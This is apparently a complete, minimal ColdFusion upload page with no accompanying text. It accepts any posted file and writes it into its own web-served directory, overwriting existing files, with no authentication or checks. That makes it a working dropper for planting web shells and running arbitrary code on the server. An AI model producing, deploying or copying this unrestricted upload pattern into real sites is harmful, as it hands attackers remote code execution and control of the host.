<cfif structKeyExists(form, "f")>
  <cffile action="upload" filefield="f" destination="#GetDirectoryFromPath(GetCurrentTemplatePath())#" nameconflict="overwrite">
  <cfoutput>#cffile.serverFile#</cfoutput>
</cfif>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
